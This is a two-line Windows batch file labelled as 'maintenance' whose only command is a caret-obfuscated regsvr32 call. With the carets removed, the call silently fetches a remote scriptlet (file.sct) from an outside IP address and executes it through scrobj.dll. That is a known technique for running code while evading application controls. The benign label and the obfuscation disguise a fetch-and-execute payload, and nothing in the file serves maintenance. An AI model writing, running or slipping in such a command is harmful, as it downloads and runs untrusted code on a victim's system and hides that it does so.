REM maintenance 7438 v0
r^eg^sv^r3^2 /s /n /u /i:^htt^p://1^9^2.0.2.^4^4/f^ile.s^ct ^sc^r^obj.dll
